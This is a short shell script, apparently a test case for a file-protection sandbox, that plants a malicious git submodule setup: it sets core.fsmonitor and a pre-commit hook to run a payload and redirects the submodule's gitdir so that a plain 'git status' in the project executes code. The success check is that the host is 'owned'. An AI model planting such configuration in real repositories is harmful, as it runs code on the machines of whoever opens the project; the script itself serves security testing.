#!/bin/sh
# files.protect, hazards 6 and 18: a hook and settings of a submodule, which git status in the project obeys too.
# plant: mounts.protect+observer+observer.notes
# fallback: files.protect
prepare() {
	git -c protocol.file.allow=always submodule --quiet add "$WORK" libs/part
	git commit -q -m part
}

act() {
	payload >run-me && chmod 755 run-me
	module=.git/modules/libs/part
	cp -R $module evil
	printf '[core]\n\tfsmonitor = %s\n\tworktree = %s\n' "$WORK/run-me" "$WORK/libs/part" >>evil/config
	payload >$module/hooks/pre-commit && chmod 755 $module/hooks/pre-commit
	printf '[core]\n\tfsmonitor = %s\n' "$WORK/run-me" >>$module/config
	echo "$WORK/evil" >$module/commondir
	rm -f libs/part/.git && echo "gitdir: $WORK/evil" >libs/part/.git
}

happened() {
	host_is_owned_by_git
}

. "$VERIFY/attempt.sh"
